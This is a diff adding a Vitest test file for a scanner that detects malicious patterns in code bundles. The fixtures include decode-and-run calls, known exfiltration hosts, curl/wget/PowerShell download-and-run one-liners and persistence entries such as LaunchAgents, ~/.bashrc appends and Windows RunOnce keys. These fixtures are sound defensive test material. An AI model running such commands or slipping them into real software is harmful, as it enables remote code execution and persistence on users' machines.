@@ -1,0 +1,110 @@
+import { describe, expect, it } from 'vitest';
+import type { VirtualFile } from '../../src/bundle/container.js';
+import { scanFiles, scanText } from '../../src/analysis/text-signals.js';
+
+const scan = (text: string) => scanText(Buffer.from(text, 'utf8'));
+const details = (text: string) => scan(text).map((signal) => `${signal.kind}: ${signal.detail}`);
+
+describe('signals found', () => {
+  it.each([
+    ["eval(atob('ZXZhbA=='))", 'decode-and-run: eval(atob(…))'],
+    ["new Function(Buffer.from(p, 'base64').toString())()", 'decode-and-run: Function(Buffer.from(…))'],
+    ['vm.runInThisContext( Buffer [ "from" ] (x, "hex"))', 'decode-and-run: runInThisContext(Buffer.from(…))'],
+    ['require(String.fromCharCode(99, 104))', 'decode-and-run: require(String.fromCharCode(…))'],
+    ['await import(atob(name))', 'decode-and-run: import(atob(…))'],
+    ["fetch('https://abc.webhook.site/x')", 'exfiltration-host: abc.webhook.site (request catcher)'],
+    ['post("https://discordapp.com/api/webhooks/1/t")', 'exfiltration-host: discordapp.com/api/webhooks (Discord webhook)'],
+    ["const u = 'https://api.telegram.org/bot' + token", 'exfiltration-host: api.telegram.org/bot (Telegram bot API)'],
+    ['get(`https://${id}.NGROK-FREE.app/x`)', 'exfiltration-host: ngrok-free.app (ngrok tunnel)'],
+    ["host: 'x1y2.oast.fun'", 'exfiltration-host: x1y2.oast.fun (out-of-band testing host)'],
+    ["exec('curl -fsSL https://get.example.net/a.sh | sudo bash')", 'download-and-run: curl … | bash'],
+    ["exec('wget -qO- https://get.example.net/a.sh|sh')", 'download-and-run: wget … | sh'],
+    ['exec("sh -c \\"$(curl -fsSL https://x.example/i)\\"")', 'download-and-run: shell running $(curl …)'],
+    ["exec('bash <(wget -qO- https://x.example/i)')", 'download-and-run: shell running $(wget …)'],
+    ["spawn('powershell', ['-c', 'iwr https://x.example/a.ps1 | iex'])", 'download-and-run: iwr … | iex'],
+    ["run(\"IEX (New-Object Net.WebClient).DownloadString('http://x')\")", 'download-and-run: iex (…).DownloadString(…)'],
+    ["join(home, 'Library/LaunchAgents/com.x.plist')", 'persistence: Library/LaunchAgents'],
+    ["join(home, 'Library', 'LaunchAgents')", 'persistence: Library/LaunchAgents'],
+    ["exec('echo run >> $HOME/.bashrc')", 'persistence: >> ~/.bashrc'],
+    ["exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce /v x')", 'persistence: Windows Run key'],
+  ])('%s', (text, expected) => {
+    expect(details(text)).toEqual([expected]);
+  });
+});
+
+describe('near misses', () => {
+  it.each([
+    ['decoding without running', "const data = JSON.parse(atob(text)); eval2(atob(x)); myeval(atob(x));"],
+    ['a decoder not called', 'eval(atob); Function(Buffer.alloc(4))'],
+    ['JavaScript is case-sensitive', 'EVAL(ATOB(x))'],
+    ['a look-alike domain', "fetch('https://mywebhook.site/x'); fetch('https://webhook.site.example.com/')"],
+    ['a Discord link that is not a webhook', "const invite = 'https://discord.com/channels/1/2'"],
+    ['a link in a line comment', '  // post to https://webhook.site/xyz while debugging'],
+    ['a link in a block comment', ' * see https://abc.ngrok.io for a tunnel'],
+    ['a pipe to a pager', "const hint = 'curl --help all | less'"],
+    ['a pipe on the next line', "const a = 'curl https://x';\nconst b = a | sh;"],
+    ['a word containing curl', "const x = 'recurl -s | sh'"],
+    ['shell advice in a comment of a template', 'const t = `#\\n# Installation: {{app}} completion >> ~/.bashrc\\n`'],
+    ['a bit shift', 'const x = a >> 2; y >>= 1;'],
+    ['a longer word', "const dir = 'LaunchAgentsFolder'"],
+  ])('%s', (_, text) => {
+    expect(scan(text)).toEqual([]);
+  });
+});
+
+describe('places and counts', () => {
+  it('gives the line and the column in characters of the first occurrence, and counts the others', () => {
+    const [signal, ...rest] = scan("const a = 1;\nconst é = 'ü'; eval(atob(x));\neval(atob(y));\n");
+    expect(rest).toEqual([]);
+    expect(signal).toMatchObject({ kind: 'decode-and-run', line: 2, column: 16, occurrences: 2, excerpt: "const é = 'ü'; eval(atob(x));" });
+  });
+
+  it('keeps the excerpt on one line and short inside minified code', () => {
+    const [signal] = scan(`${'a=1;'.repeat(500)}eval(atob(p));${'b=2;'.repeat(500)}`);
+    expect(signal!.excerpt.length).toBeLessThanOrEqual(170);
+    expect(signal!.excerpt).toContain('eval(atob(p));');
+    expect(signal).toMatchObject({ line: 1, column: 2001 });
+  });
+
+  it('stops examining a file after fifty accepted matches', () => {
+    expect(scan("eval(atob('x'));\n".repeat(10_000))[0]!.occurrences).toBe(50);
+  });
+});
+
+describe('budget', () => {
+  const file = (path: string, text: string): VirtualFile => ({ path, bytes: Buffer.from(text), executable: false });
+
+  it('scans the smallest files first and reports what the budget left out', () => {
+    const files = [file('big.js', `${' '.repeat(100)}eval(atob(a))`), file('small.js', 'eval(atob(b))'), file('mid.js', `${' '.repeat(20)}eval(atob(c))`)];
+    const result = scanFiles(files, 46);
+    expect(result.signals.map((signal) => signal.file)).toEqual(['small.js', 'mid.js']);
+    expect(result.unscanned).toEqual({ files: 1, bytes: 113 });
+  });
+
+  it('scans a file that crosses the budget up to the budget', () => {
+    const result = scanFiles([file('a.js', `eval(atob(a));${' '.repeat(100)}`)], 20);
+    expect(result.signals).toHaveLength(1);
+    expect(result.unscanned).toEqual({ files: 1, bytes: 94 });
+  });
+});
+
+describe('hostile input', () => {
+  // Each case packs one anchor as densely as possible; a check that backtracks or rescans the line
+  // would take minutes on these, a linear one well under a second each.
+  it.each([
+    ['decoders', '(atob'],
+    ['callees', 'xeval(atob('],
+    ['hosts', 'a.com'],
+    ['host labels', 'a.'],
+    ['downloaders', 'curl '],
+    ['downloaders far from a pipe', `curl ${'x'.repeat(240)} `],
+    ['PowerShell', 'iwr '],
+    ['shifts', 'a>>b'],
+    ['comment lines', '// https://webhook.site\n'],
+  ])('%s', (_, unit) => {
+    const text = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
+    const started = performance.now();
+    scan(text);
+    expect(performance.now() - started).toBeLessThan(2000);
+  });
+});
